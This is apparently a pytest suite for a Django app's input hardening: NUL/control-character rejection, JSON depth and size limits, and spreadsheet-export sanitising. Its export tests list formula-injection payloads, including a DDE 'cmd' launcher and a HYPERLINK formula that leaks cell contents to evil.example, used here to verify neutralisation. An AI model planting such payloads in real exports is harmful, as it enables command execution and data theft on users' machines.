"""Bad bodies and bad text (issue 10): NUL bytes and control characters,
JSON nested too deep or too large, and the cells of every export (formula
injection, control characters). Each class is handled once where it enters:
``collab.limits`` (parser, middleware) and ``collab.exports._cell``."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import override_settings
from django.urls import reverse
from openpyxl import load_workbook

from collab import exports, limits, tenancy
from departments.tests.factories import api_client

TECH_EXTRA = {"customer_name": "华东电力", "product_version": "v3.2"}


def _tech_type(org):
    from requests_sla.catalog.models import RequestType

    with tenancy.organization_scope(org.id):
        return RequestType.objects.get(code="rnd_tech_support")


def _payload(org, **overrides):
    return {
        "request_type": _tech_type(org).pk,
        "title": "参数确认",
        "extra": TECH_EXTRA,
    } | overrides


def _no_requests(org):
    from requests_sla.requests.models import Request

    with tenancy.organization_scope(org.id):
        return not Request.objects.exists()


# ---------------------------------------------------------------- NUL and control characters


@pytest.mark.parametrize(
    "extra",
    [
        {"customer_name": "华东\u0000电力", "product_version": "v3.2"},
        {"customer_name": "华东电力", "product_version": "v3.2", "x\u0000": "y"},
        {"customer_name": ["\u0000"], "product_version": "v3.2"},
    ],
)
@pytest.mark.django_db
def test_nul_inside_json_extra_is_a_400_and_nothing_is_stored(org, owner, extra):
    response = api_client(owner).post(
        "/api/requests/",
        json.dumps(_payload(org, extra=extra)),
        content_type="application/json",
    )
    assert response.status_code == 400, response.content
    assert _no_requests(org)


@pytest.mark.parametrize(
    "extra",
    [
        json.dumps({"customer_name": "a\u0000", "product_version": "v"}),
        "[" * 100_000 + "]" * 100_000,
    ],
)
@pytest.mark.django_db
def test_nul_or_deep_nesting_inside_a_multipart_extra_is_a_field_error(org, owner, extra):
    response = api_client(owner).post(
        "/api/requests/",
        {"request_type": _tech_type(org).pk, "title": "参数确认", "extra": extra},
        format="multipart",
    )
    assert response.status_code == 400 and "extra" in response.json()
    assert _no_requests(org)


@pytest.mark.django_db
def test_other_control_characters_in_extra_text_are_stripped(org, owner):
    extra = {"customer_name": "华东\x1b电力\x07", "product_version": "v3.2"}
    response = api_client(owner).post("/api/requests/", _payload(org, extra=extra), format="json")
    assert response.status_code == 201, response.content
    assert response.json()["extra"]["customer_name"] == "华东电力"


SEARCHES = [
    ("pipeline:accounts", {"q": "a\x00b"}),
    ("pipeline:link_lookup", {"q": "\x00"}),
    ("requests_sla:queue", {"q": "x\x00", "status": "\x00"}),
    ("requests_sla:mine", {"q": "\x00"}),
    ("dashboard:index", {"priority": "\x00"}),
]


@pytest.mark.parametrize("name, params", SEARCHES)
@pytest.mark.django_db
def test_nul_in_a_query_string_is_a_400_before_any_view(client_for, owner, name, params):
    response = client_for(owner).get(reverse(name), params)
    assert response.status_code == 400


@pytest.mark.parametrize(
    "url", ["/api/requests/?search=a%00", "/api/accounts/?search=%00", "/api/requests/?x%00=1"]
)
@pytest.mark.django_db
def test_nul_in_an_api_query_is_a_json_400(owner, url):
    response = api_client(owner).get(url)
    assert response.status_code == 400 and "detail" in response.json()


@pytest.mark.django_db
def test_nul_in_a_form_post_is_a_400(client_for, owner):
    response = client_for(owner).post(
        reverse("departments:settings"),
        "form=invite&email=a%00%40example.com",
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code == 400


# ---------------------------------------------------------------- body limits


@pytest.mark.parametrize("depth", [33, 1_000, 100_000])
@pytest.mark.django_db
def test_json_nested_too_deep_is_a_400_not_a_recursion_error(org, owner, depth):
    body = "[" * depth + "]" * depth
    response = api_client(owner).post("/api/requests/", body, content_type="application/json")
    assert response.status_code == 400
    assert "32" in response.json()["detail"]


@pytest.mark.django_db
def test_json_nested_in_a_field_within_the_limit_still_parses(org, owner):
    extra = TECH_EXTRA | {"note": [[["ok"]]]}
    response = api_client(owner).post("/api/requests/", _payload(org, extra=extra), format="json")
    # The unknown key is the schema's field error, not the parser's.
    assert response.status_code == 400 and "note" in str(response.json())


@pytest.mark.django_db
def test_a_json_body_over_the_size_limit_is_a_413(org, owner):
    with override_settings(COLLAB_JSON_MAX_BYTES=1000):
        body = json.dumps(_payload(org, description="x" * 2000))
        response = api_client(owner).post("/api/requests/", body, content_type="application/json")
    assert response.status_code == 413
    assert _no_requests(org)


@pytest.mark.parametrize("body", ['{"title": NaN}', '{"title": Infinity}', "{", "\xff"])
@pytest.mark.django_db
def test_malformed_json_is_a_400(owner, body):
    response = api_client(owner).post(
        "/api/requests/", body.encode("latin-1"), content_type="application/json"
    )
    assert response.status_code == 400


@pytest.mark.django_db
def test_a_deep_json_form_field_is_a_form_error(org):
    from requests_sla.catalog.forms import RequestTypeForm

    with tenancy.organization_scope(org.id):
        form = RequestTypeForm({"form_schema": "[" * 100_000 + "]" * 100_000})
        assert not form.is_valid()
    assert "32" in str(form.errors["form_schema"])


def test_loads_checks_depth_without_recursion():
    with pytest.raises(ValueError):
        limits.check_structure(_nested(100_000))
    limits.check_structure(_nested(31))


def _nested(depth):
    value: list = []
    for _ in range(depth - 1):
        value = [value]
    return value


# ---------------------------------------------------------------- exports


HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _sheet(*values):
    return exports.Sheet(title="T\x1b", headers=["=h", "b"], rows=[list(values)], notes=["@n"])


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_are_neutralised_in_csv(value):
    text = exports.sheets_csv([_sheet(value, 42)]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "'=h"
    assert rows[1] == ["'" + value, "42"]
    assert rows[-1] == ["'@n"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_are_text_in_xlsx_and_numbers_stay_numbers(value):
    from decimal import Decimal

    book = load_workbook(io.BytesIO(exports.sheets_xlsx([_sheet(value, 42, Decimal("1.50"), -3)])))
    ws = book.worksheets[0]
    cell = ws.cell(row=2, column=1)
    # (XML stores a carriage return as a line feed.)
    assert cell.data_type == "s" and cell.value == "'" + value.replace("\r", "\n")
    assert [ws.cell(row=2, column=c).value for c in (2, 3, 4)] == [42, 1.5, -3]
    assert ws.cell(row=2, column=2).data_type == "n"


def test_control_characters_are_removed_from_xlsx_cells_and_titles():
    book = load_workbook(io.BytesIO(exports.sheets_xlsx([_sheet("a\x1bb\x00c\x7f", "x\ty")])))
    ws = book.worksheets[0]
    assert ws.title == "T"
    assert ws.cell(row=2, column=1).value == "abc"
    assert ws.cell(row=2, column=2).value == "x\ty"


def test_plain_signed_numbers_in_text_are_left_alone():
    assert exports.safe_text("-5") == "-5" and exports.safe_text("+3.5") == "+3.5"
    assert exports.safe_text("-5+cmd") == "'-5+cmd"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.django_db
def test_a_request_title_with_an_escape_and_a_formula_exports(client_for, org, owner, fmt):
    title = '=HYPERLINK("http://x")\x1b[31m'
    response = api_client(owner).post("/api/requests/", _payload(org, title=title), format="json")
    assert response.status_code == 201, response.content
    export = client_for(owner).get(
        reverse("dashboard:drilldown"), {"bucket": "open", "format": fmt}
    )
    assert export.status_code == 200
    body = b"".join(export.streaming_content) if export.streaming else export.content
    if fmt == "xlsx":
        ws = load_workbook(io.BytesIO(body)).worksheets[0]
        values = [c.value for row in ws.iter_rows() for c in row]
        assert '\'=HYPERLINK("http://x")[31m' in values
    else:
        assert "'=HYPERLINK" in body.decode("utf-8-sig") and "\x1b" not in body.decode()


def test_every_api_view_parses_json_through_the_limited_parser():
    """A view that names its own parsers keeps the limits (new views included)."""
    from django.urls import get_resolver
    from rest_framework.parsers import JSONParser

    def walk(patterns):
        for pattern in patterns:
            if hasattr(pattern, "url_patterns"):
                yield from walk(pattern.url_patterns)
            else:
                yield pattern.callback

    offenders, limited = set(), set()
    for callback in walk(get_resolver().url_patterns):
        view = getattr(callback, "cls", None)
        actions = getattr(callback, "actions", None) or {}
        for method in [None, *actions.values()]:
            handler = getattr(view, method, None) if method else view
            kwargs = getattr(handler, "kwargs", {}) if method else {}
            parsers = kwargs.get("parser_classes") or getattr(view, "parser_classes", [])
            for parser in parsers:
                if issubclass(parser, JSONParser) and not issubclass(
                    parser, limits.LimitedJSONParser
                ):
                    offenders.add(f"{view.__module__}.{view.__name__}")
                elif issubclass(parser, limits.LimitedJSONParser):
                    limited.add(f"{view.__module__}.{view.__name__}")
    assert offenders == set()
    # The walk reached the API's views (over an empty walk, offenders == set() passes).
    assert len(limited) >= 15, sorted(limited)
